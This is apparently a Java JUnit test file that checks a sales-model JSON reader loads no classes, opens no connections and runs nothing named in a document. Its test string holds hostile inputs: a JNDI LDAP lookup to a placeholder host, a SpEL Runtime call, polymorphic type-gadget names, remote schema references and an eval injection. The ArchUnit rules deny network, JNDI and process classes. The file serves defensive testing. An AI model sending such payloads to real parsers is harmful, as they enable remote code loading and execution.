package io.salesprocess.model.hostile;

import static com.tngtech.archunit.lang.syntax.ArchRuleDefinition.noClasses;
import static org.assertj.core.api.Assertions.assertThat;

import com.tngtech.archunit.core.domain.JavaClasses;
import com.tngtech.archunit.core.importer.ClassFileImporter;
import com.tngtech.archunit.core.importer.ImportOption;
import java.io.IOException;
import java.net.ProxySelector;
import java.net.SocketAddress;
import java.net.URI;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** Nothing that a document says is looked up as a class, opened, fetched or run. */
class NoDoorTest {
    private static final String CODE = "io.salesprocess.model";
    private static final JavaClasses CLASSES = new ClassFileImporter()
            .withImportOption(ImportOption.Predefined.DO_NOT_INCLUDE_TESTS)
            .importPackages(CODE);
    private static final String DOORS = """
            {"allOf": [{"@class": "java.net.URL", "field": "seats"}, {"$ref": "http://x.invalid/a.json"},
                       {"$schema": "jar:http://x.invalid/a.jar!/b", "field": "seats"}, ["java.net.URL", "http://x.invalid"],
                       {"field": "seats", "equals": {"@type": "io.salesprocess.model.hostile.NoDoorTest$Trap"}},
                       {"statement": "${jndi:ldap://x.invalid/a} #{T(java.lang.Runtime).getRuntime()}", "field": "seats"},
                       {"field": "seats", "equals": "\\") eval(1==1 //"}]}
            """;

    /** Would tell that its name was taken from a document. */
    static final class Trap {
        static {
            Witness.SEEN.add("Trap");
        }
    }

    private static final class Witness extends ProxySelector {
        private static final List<String> SEEN = new ArrayList<>();

        @Override
        public List<java.net.Proxy> select(URI uri) {
            SEEN.add(uri.toString());
            return List.of(java.net.Proxy.NO_PROXY);
        }

        @Override
        public void connectFailed(URI uri, SocketAddress address, IOException failure) {
            SEEN.add(uri.toString());
        }
    }

    /** Tells which classes somebody asks for by name. */
    private static final class Ear extends ClassLoader {
        private final List<String> asked = new ArrayList<>();

        private Ear(ClassLoader parent) {
            super(parent);
        }

        @Override
        protected Class<?> loadClass(String name, boolean resolve) throws ClassNotFoundException {
            asked.add(name);
            return super.loadClass(name, resolve);
        }
    }

    @Test
    @Tag("B018")
    @Tag("B019")
    @Tag("B020")
    void a_definition_full_of_names_and_addresses_loads_no_class_and_opens_no_connection() {
        Thread thread = Thread.currentThread();
        ClassLoader usual = thread.getContextClassLoader();
        ProxySelector proxies = ProxySelector.getDefault();
        Ear ear = new Ear(usual);
        try {
            thread.setContextClassLoader(ear);
            ProxySelector.setDefault(new Witness());
            assertThat(Offered.condition(DOORS).problems()).isNotEmpty();
        } finally {
            thread.setContextClassLoader(usual);
            ProxySelector.setDefault(proxies);
        }

        assertThat(ear.asked).isEmpty();
        assertThat(Witness.SEEN).isEmpty();
    }

    @Test
    @Tag("B019")
    void reading_uses_no_reflection() {
        noClasses()
                .should()
                .dependOnClassesThat()
                .resideInAnyPackage("java.lang.reflect..", "tools.jackson.databind..", "javax.script..")
                .because("names from JSON lead to described shapes and to nothing else")
                .check(CLASSES);
        noClasses()
                .should()
                .callMethod(Class.class, "forName", String.class)
                .orShould()
                .callMethod(ClassLoader.class, "loadClass", String.class)
                .check(CLASSES);
    }

    @Test
    @Tag("B020")
    void reading_touches_no_network_no_process_and_no_object_stream() {
        noClasses()
                .should()
                .dependOnClassesThat()
                .haveNameMatching("java\\.net\\.(?!URI).*")
                .orShould()
                .dependOnClassesThat()
                .resideInAnyPackage("javax.net..", "javax.naming..", "java.rmi..", "java.sql..")
                .orShould()
                .dependOnClassesThat()
                .belongToAnyOf(Runtime.class, ProcessBuilder.class, java.io.ObjectInputStream.class)
                .because("a document is text and not an errand")
                .check(CLASSES);
    }

    @Test
    @Tag("B020")
    void only_the_entrance_opens_files_that_a_caller_names() {
        noClasses()
                .that()
                .doNotHaveFullyQualifiedName(CODE + ".SalesJson")
                .should()
                .dependOnClassesThat()
                .resideInAnyPackage("java.nio.file..", "java.nio.channels..")
                .orShould()
                .dependOnClassesThat()
                .belongToAnyOf(java.io.File.class, java.io.FileInputStream.class, java.io.RandomAccessFile.class)
                .check(CLASSES);
    }
}
